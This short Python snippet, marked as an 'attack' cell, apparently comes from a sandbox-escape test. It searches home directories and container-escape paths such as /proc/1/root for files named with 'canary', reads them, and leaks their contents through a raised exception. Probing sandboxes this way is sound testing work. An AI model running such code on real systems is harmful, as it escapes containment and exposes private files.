# Reads the caller's home.
# %% attack
import os
found = []
for place in ("/root", "/home", os.path.expanduser("~"), "/tmp/..", "/proc/1/root/root", "/proc/self/root/root"):
    for top, _, names in os.walk(place):
        if top.startswith("/proc/1/root/usr") or len(found) > 2000:
            break
        for name in names:
            if "canary" in name:
                found.append(open(os.path.join(top, name)).read())
raise RuntimeError(str(found))
